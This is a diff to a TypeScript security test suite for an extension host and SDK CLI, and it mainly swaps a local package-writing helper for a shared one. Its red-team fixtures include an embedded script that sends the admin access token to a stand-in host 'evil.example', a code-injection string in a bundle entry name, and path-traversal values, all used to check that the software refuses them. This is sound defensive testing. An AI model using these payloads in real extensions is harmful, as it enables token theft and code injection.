@@ -10,7 +10,7 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser } from 'playwright-core';
 import { createCollection, createUser, ROOT, startHost, type TestHost } from '../helpers/host.js';
-import { writeEndpoint } from '../helpers/write-extension.js';
+import { writeEndpoint, writePackage } from '../helpers/write-extension.js';
 import { launch, SKIP_REASON } from '../e2e/browser.js';
 
 const SDK_CLI = path.join(ROOT, 'sdk-extension', 'dist', 'cli', 'main.js');
@@ -33,15 +33,6 @@ function tree(dir: string): string[] {
     if (e.isDirectory() && !e.isSymbolicLink()) out.push(...tree(path.join(dir, e.name)).map((p) => `${rel}/${p}`));
   }
   return out;
-}
-function writeExt(dir: string, pkg: Record<string, unknown>, files: Record<string, string>): string {
-  fs.mkdirSync(dir, { recursive: true });
-  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pkg, null, 2));
-  for (const [rel, text] of Object.entries(files)) {
-    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
-    fs.writeFileSync(path.join(dir, rel), text);
-  }
-  return dir;
 }
 const hookPkg = (extra: Record<string, unknown> = {}, manifest: Record<string, unknown> = {}) => ({
   name: 'redteam-hook', version: '1.0.0', type: 'module', license: 'MIT', ...extra,
@@ -134,7 +125,7 @@ describe('host: script on the admin origin from sandboxed extensions and reflect
   let t: TestHost;
   beforeAll(async () => {
     t = await startHost({ env: { EXTENSIONS_SANDBOX_GRANT: 'none' } });
-    writeExt(path.join(t.extensionsPath, 'redteam-sandboxed-embed'), {
+    writePackage(path.join(t.extensionsPath, 'redteam-sandboxed-embed'), {
       name: 'redteam-sandboxed-embed', version: '1.0.0', type: 'module',
       'directus:extension': { type: 'hook', path: 'dist/index.js', source: 'src/index.js', host: '^10.10.0', sandbox: { enabled: true, requestedScopes: {} } },
     }, { 'dist/index.js': `export default ({ embed }) => { embed('head', '<script>fetch("//evil.example/?t="+localStorage.getItem("annex.access_token"))</script>'); };\n` });
@@ -183,7 +174,7 @@ describe('host: script on the admin origin from sandboxed extensions and reflect
 describe('sdk: annex-extension with a hostile package.json', () => {
   it('build: directus:extension.path cannot write outside the extension folder (relative ../)', () => {
     const root = tmp('build-rel');
-    const ext = writeExt(path.join(root, 'ext'), hookPkg({}, { path: '../escaped-build.js' }), HOOK_SRC);
+    const ext = writePackage(path.join(root, 'ext'), hookPkg({}, { path: '../escaped-build.js' }), HOOK_SRC);
     const r = run(SDK_CLI, ['build', '--json'], ext);
     expect(fs.existsSync(path.join(root, 'escaped-build.js')), `build wrote outside the folder (exit ${r.code})`).toBe(false);
   }, 20_000);
@@ -191,14 +182,14 @@ describe('sdk: annex-extension with a hostile package.json', () => {
   it('build: directus:extension.path cannot write to an absolute path', () => {
     const root = tmp('build-abs');
     const target = path.join(root, 'elsewhere', 'abs-escape.js');
-    const ext = writeExt(path.join(root, 'ext'), hookPkg({}, { path: target }), HOOK_SRC);
+    const ext = writePackage(path.join(root, 'ext'), hookPkg({}, { path: target }), HOOK_SRC);
     const r = run(SDK_CLI, ['build', '--json'], ext);
     expect(fs.existsSync(target), `build wrote to an absolute path (exit ${r.code})`).toBe(false);
   }, 20_000);
 
   it('build: bundle entry names cannot inject code into the generated entry module', () => {
     const root = tmp('build-bundle');
-    const ext = writeExt(path.join(root, 'ext'), {
+    const ext = writePackage(path.join(root, 'ext'), {
       name: 'redteam-bundle', version: '1.0.0', type: 'module', license: 'MIT',
       'directus:extension': { type: 'bundle', path: { app: 'dist/app.js', api: 'dist/api.js' }, host: '^10.10.0', entries: [{ type: 'hook', name: 'x", config: e0 }]; globalThis.__pwned = 1; //', source: 'src/hook.js' }] },
     }, { 'src/hook.js': HOOK_SRC['src/index.js'] });
@@ -209,7 +200,7 @@ describe('sdk: annex-extension with a hostile package.json', () => {
 
   it('pack: a "version" with path segments cannot place the tarball outside --pack-destination', () => {
     const root = tmp('pack');
-    const ext = writeExt(path.join(root, 'ext'), hookPkg({ version: '1.0.0/../../escaped-pack' }), { ...HOOK_SRC, 'dist/index.js': 'export default () => {};\n' });
+    const ext = writePackage(path.join(root, 'ext'), hookPkg({ version: '1.0.0/../../escaped-pack' }), { ...HOOK_SRC, 'dist/index.js': 'export default () => {};\n' });
     const r = run(SDK_CLI, ['pack', '--json'], ext);
     const outside = tree(root).filter((p) => p.endsWith('.tgz') && !p.startsWith('ext/'));
     expect(outside, `pack wrote a tarball outside the folder (exit ${r.code}): ${r.out}`).toEqual([]);
@@ -220,7 +211,7 @@ describe('sdk: annex-extension with a hostile package.json', () => {
     const hostExt = path.join(root, 'host', 'extensions');
     fs.mkdirSync(hostExt, { recursive: true });
     for (const name of ['..', '../../evil', '@scope/../../../evil2']) {
-      const ext = writeExt(path.join(root, 'src', String(Math.random()).slice(2)), hookPkg({ name }), HOOK_SRC);
+      const ext = writePackage(path.join(root, 'src', String(Math.random()).slice(2)), hookPkg({ name }), HOOK_SRC);
       run(SDK_CLI, ['link', hostExt, '--json'], ext);
     }
     const links = tree(root).filter((p) => fs.lstatSync(path.join(root, p)).isSymbolicLink());
@@ -230,7 +221,7 @@ describe('sdk: annex-extension with a hostile package.json', () => {
 
   it('add: --name and --convert-name with path segments are refused', () => {
     const root = tmp('add');
-    const ext = writeExt(path.join(root, 'ext'), hookPkg(), HOOK_SRC);
+    const ext = writePackage(path.join(root, 'ext'), hookPkg(), HOOK_SRC);
     const before = tree(root);
     for (const args of [['--type', 'hook', '--name', '../../escaped-add'], ['--type', 'hook', '--name', 'ok', '--convert-name', '../../escaped-conv']]) {
       const r = run(SDK_CLI, ['add', ...args], ext);
@@ -241,7 +232,7 @@ describe('sdk: annex-extension with a hostile package.json', () => {
 
   it('publish: the token is never written to disk or printed, and is not forwarded on a cross-origin redirect', async () => {
     const root = tmp('publish');
-    const ext = writeExt(path.join(root, 'ext'), hookPkg(), { ...HOOK_SRC, 'dist/index.js': 'export default () => {};\n' });
+    const ext = writePackage(path.join(root, 'ext'), hookPkg(), { ...HOOK_SRC, 'dist/index.js': 'export default () => {};\n' });
     const TOKEN = 'npm_SECRET_redteam_token_0123456789';
     const seen: (string | undefined)[] = [];
     const evil = http.createServer((req, res) => { seen.push(req.headers.authorization); req.resume(); res.writeHead(201, { 'content-type': 'application/json' }).end('{}'); });
